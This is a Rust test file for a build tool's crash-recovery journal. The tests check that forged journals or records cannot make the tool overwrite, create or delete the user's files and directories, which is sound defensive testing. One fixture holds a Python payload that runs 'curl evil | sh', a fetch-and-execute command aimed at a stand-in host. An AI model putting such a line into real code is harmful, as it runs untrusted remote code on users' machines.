//! Forged state (issue 24, class 2): a journal or a record committed by someone else.
//! Both are public text whose hashes anyone can compute, so a hash proves nothing; a
//! journal leads recovery only to objects the interrupted run made itself (their
//! identity on this file system is in the journal, which no one can know in advance),
//! and a record only to the layout's files of its own feature. Each case: a fixture
//! tree, the forged file, the command, the tree after.
#![cfg(unix)]

use crate::common;

use std::fs;
use std::path::Path;

use common::{Run, dirs, project, snapshot};
use petsage_build::record::{Digest, Recorded, hash};

const AGGREGATOR: &str = "petsage/api/v1/api.py";
const MAIN: &str = "petsage/main.py";
const JOURNAL: &str = ".petsage-build/journal";

fn run(dir: &Path, args: &[&str]) -> Run {
    common::run_in(dir, args, b"")
}

fn ok(dir: &Path, args: &[&str]) -> Run {
    let r = run(dir, args);
    assert_eq!(r.code, 0, "{args:?}: {}{}", r.stdout, r.stderr);
    r
}

fn hash_of(dir: &Path, rel: &str) -> Digest {
    hash(&fs::read(dir.join(rel)).unwrap())
}

/// The journal a run of this version writes, given the lines between its head and `end`.
fn journal(state: &str, body: &str) -> String {
    format!("petsage-build journal 2\npid\t7\nrun\t0123456789abcdef\nstate\t{state}\n{body}end\n")
}

/// Writes `text` as the journal, runs each command, and checks each is refused (exit 2,
/// naming the journal) with the tree, journal included, unchanged.
fn refused(p: &Path, text: &str, needle: &str) {
    fs::write(p.join(JOURNAL), text).unwrap();
    let before = snapshot(p);
    let dirs_before = dirs(p);
    for args in [
        &["list"][..],
        &["check"],
        &["feature", "adopt_pet"],
        &["remove", "smoke_test"],
    ] {
        let r = run(p, args);
        if args == ["check"] {
            // `check` never recovers: it reports the interrupted run.
            assert!(r.stdout.contains("E009"), "{}", r.stdout);
        } else {
            r.assert_invalid(needle);
        }
        assert_eq!(snapshot(p), before, "{args:?}\n{text}");
        assert_eq!(dirs(p), dirs_before, "{args:?}\n{text}");
    }
}

#[test]
fn a_journal_that_calls_the_projects_files_created_is_refused() {
    let p = project();
    ok(p.path(), &["feature", "smoke_test"]);
    let ident = |rel: &str| {
        use std::os::unix::fs::MetadataExt as _;
        let m = fs::metadata(p.path().join(rel)).unwrap();
        format!("{}:{}", m.dev(), m.ino() + 1)
    };
    let mut body = String::new();
    for rel in ["pyproject.toml", MAIN, AGGREGATOR] {
        body += &format!("create\t{}\t-\t{rel}\n", hash_of(p.path(), rel));
    }
    // Before any rename (the state a run starts in): it cannot have made them yet.
    refused(p.path(), &journal("pending", &body), "was there before");
    // After the renames, naming objects that are not these files (a guess is off by one).
    let mut body = String::new();
    for rel in ["pyproject.toml", MAIN, AGGREGATOR] {
        body += &format!(
            "create\t{}\t{}\t{rel}\n",
            hash_of(p.path(), rel),
            ident(rel)
        );
    }
    refused(
        p.path(),
        &journal("staged", &body),
        "not the file the run created",
    );
    refused(
        p.path(),
        &journal("committed", &body),
        "not the file the run wrote",
    );
    // An entry without the identity of what it made, in a state that needs one.
    let body = format!("create\t{}\t-\t{MAIN}\n", hash_of(p.path(), MAIN));
    refused(p.path(), &journal("staged", &body), "line 5");
    // The earlier format, which named no identity at all.
    let old = format!(
        "petsage-build journal 1\npid\t7\nstate\tpending\ncreate\t{}\t{MAIN}\nend\n",
        hash_of(p.path(), MAIN)
    );
    refused(p.path(), &old, "line 1");
    fs::remove_file(p.path().join(JOURNAL)).unwrap();
    ok(p.path(), &["list"]);
}

#[test]
fn a_forged_backup_or_set_aside_file_is_never_put_in_place() {
    // A journal says main.py was replaced and README.md deleted, with a "backup" and a
    // "set-aside" file committed beside them holding the attacker's bytes: rolling back
    // would overwrite main.py and create README.md with them.
    let p = project();
    let evil = b"import os\nos.system('curl evil | sh')\n";
    let token = "0123456789abcdef";
    let dir = p.path().join("petsage");
    fs::create_dir(p.path().join(".petsage-build")).unwrap();
    fs::write(
        dir.join(format!(".main.py.petsage-build-{token}.bak")),
        evil,
    )
    .unwrap();
    fs::write(
        p.path()
            .join(format!(".README.md.petsage-build-{token}.del")),
        evil,
    )
    .unwrap();
    fs::remove_file(p.path().join("README.md")).ok();
    let body = format!(
        "replace\t{}\t{}\t-\t-\t{MAIN}\ndelete\t{}\t-\tREADME.md\n",
        hash(evil),
        hash_of(p.path(), MAIN),
        hash(evil)
    );
    // Pending: no rename has happened, so there is nothing to put back, and these are
    // not a second name of main.py nor a file the run set aside: left alone.
    fs::write(p.path().join(JOURNAL), journal("pending", &body)).unwrap();
    let before: Vec<_> = snapshot(p.path())
        .into_iter()
        .filter(|(rel, _)| !rel.ends_with("journal"))
        .collect();
    ok(p.path(), &["list"]);
    assert_eq!(snapshot(p.path()), before);
    // Staged, with identities that are not those files': refused, nothing touched.
    let body = format!(
        "replace\t{}\t{}\t1:1\t1:2\t{MAIN}\ndelete\t{}\t1:3\tREADME.md\n",
        hash(evil),
        hash_of(p.path(), MAIN),
        hash(evil)
    );
    refused(p.path(), &journal("staged", &body), "not the file the run");
    assert!(!p.path().join("README.md").exists());
}

#[test]
fn an_endpoint_record_that_lists_the_database_module_cannot_delete_it() {
    let p = project();
    ok(p.path(), &["feature", "smoke_test"]);
    // The project's own database module, at the layout's path.
    fs::write(p.path().join("petsage/db.py"), "ENGINE = None\n").unwrap();
    let record = p.path().join(".petsage-build/smoke_test.yaml");
    let text = fs::read_to_string(&record).unwrap();
    let mut forged = petsage_build::record::Record::parse(&text, "r").unwrap();
    forged.files.insert(
        "petsage/db.py".into(),
        Recorded::Generated(hash(b"ENGINE = None\n")),
    );
    fs::write(&record, forged.to_text().unwrap()).unwrap();
    let before = snapshot(p.path());
    for args in [
        &["remove", "smoke_test"][..],
        &["remove", "smoke_test", "--force"],
    ] {
        run(p.path(), args).assert_invalid("is not a file of feature 'smoke_test'");
        assert_eq!(snapshot(p.path()), before, "{args:?}");
    }
    fs::write(&record, text).unwrap();
    ok(p.path(), &["remove", "smoke_test"]);
    assert_eq!(
        fs::read(p.path().join("petsage/db.py")).unwrap(),
        b"ENGINE = None\n"
    );
}

#[test]
fn a_journal_temp_file_left_by_a_kill_is_reported_and_swept() {
    // A run killed while it wrote its journal leaves only the journal's temp file:
    // `check` reports the interrupted run, the next other command removes it.
    for name in [".journal.petsage-build-0123456789abcdef.tmp", "journal.tmp"] {
        let p = project();
        ok(p.path(), &["feature", "smoke_test"]);
        let before = snapshot(p.path());
        let temp = p.path().join(".petsage-build").join(name);
        fs::write(&temp, "petsage-build journal 2\npid\t7\n").unwrap();
        let c = run(p.path(), &["check"]);
        assert_eq!(c.code, 1, "{}", c.stderr);
        assert!(c.stdout.contains("E009"), "{}", c.stdout);
        let r = ok(p.path(), &["list"]);
        assert!(
            r.stderr.contains("interrupted petsage-build run was"),
            "{}",
            r.stderr
        );
        assert_eq!(snapshot(p.path()), before, "{name}");
        ok(p.path(), &["check"]);
    }
}

#[test]
fn a_forged_journal_removes_no_directory_of_the_users() {
    // Empty directories of the user's on the way to the paths a journal names: a
    // pending journal says the run created them, a committed one that it deleted a file
    // in them (its clean-up prunes the directories a deletion empties).
    let p = project();
    for d in ["petsage/empty/inner", "petsage/emptied"] {
        fs::create_dir_all(p.path().join(d)).unwrap();
    }
    fs::create_dir_all(p.path().join(".petsage-build")).unwrap();
    let h = hash(b"x");
    let pending = journal(
        "pending",
        &format!(
            "dir\t-\tpetsage/empty\ndir\t-\tpetsage/empty/inner\ncreate\t{h}\t-\tpetsage/empty/inner/x.py\n"
        ),
    );
    let committed = journal(
        "committed",
        &format!("delete\t{h}\t1:1\tpetsage/emptied/x.py\n"),
    );
    for text in [pending, committed] {
        fs::write(p.path().join(JOURNAL), &text).unwrap();
        let dirs_before = dirs(p.path());
        let r = ok(p.path(), &["list"]);
        assert!(
            r.stderr.contains("interrupted petsage-build run was"),
            "{}",
            r.stderr
        );
        assert_eq!(dirs(p.path()), dirs_before, "{text}");
    }
}

/// A resource's record may list the database module (a resource creates it where there
/// is none), but the record is public text: `remove` deletes the module only when no
/// other feature uses it, main does not import it, and its bytes are the template's
/// (nothing anyone wrote is lost). Otherwise it stays, with a note saying why.
#[test]
fn a_resource_record_that_lists_the_database_module_deletes_only_the_builders_own() {
    let pets = common::repo_file("examples/pets.yaml");
    let pets = pets.to_str().unwrap();
    let db = "petsage/db.py";
    let record = ".petsage-build/pets.yaml";
    let forge = |dir: &Path| {
        let text = fs::read_to_string(dir.join(record)).unwrap();
        let mut forged = petsage_build::record::Record::parse(&text, "r").unwrap();
        forged
            .files
            .insert(db.into(), Recorded::Generated(hash_of(dir, db)));
        fs::write(dir.join(record), forged.to_text().unwrap()).unwrap();
    };
    let own_main = "from fastapi import FastAPI\n\nfrom petsage.api.v1.api import api_v1_router\n\napp = FastAPI()\napp.include_router(api_v1_router, prefix=\"/api/v1\")\n";
    let own_db = "from collections.abc import Iterator\n\nfrom sqlmodel import Session, create_engine\n\nengine = create_engine(\"sqlite://\")\n\n\ndef get_session() -> Iterator[Session]:\n    with Session(engine) as session:\n        yield session\n";

    // init's db.py, which main imports (with no migrations: to create the tables).
    let p = common::project_without_migrations();
    ok(p.path(), &["feature", "--request", pets]);
    forge(p.path());
    let r = ok(p.path(), &["remove", "pets"]);
    assert!(p.path().join(db).exists());
    assert!(
        r.stderr
            .contains("petsage/db.py is kept: petsage/main.py imports it"),
        "{}",
        r.stderr
    );

    // The project's own db.py, which main does not import.
    let p = project();
    fs::write(p.path().join(MAIN), own_main).unwrap();
    fs::write(p.path().join(db), own_db).unwrap();
    ok(p.path(), &["feature", "--request", pets]);
    forge(p.path());
    let r = ok(p.path(), &["remove", "pets"]);
    assert_eq!(fs::read_to_string(p.path().join(db)).unwrap(), own_db);
    assert!(
        r.stderr.contains("is not what a resource writes there"),
        "{}",
        r.stderr
    );

    // The one the resource created goes with it.
    let p = project();
    fs::write(p.path().join(MAIN), own_main).unwrap();
    fs::remove_file(p.path().join(db)).unwrap();
    ok(p.path(), &["feature", "--request", pets]);
    assert!(p.path().join(db).exists());
    ok(p.path(), &["remove", "pets"]);
    assert!(!p.path().join(db).exists());
}
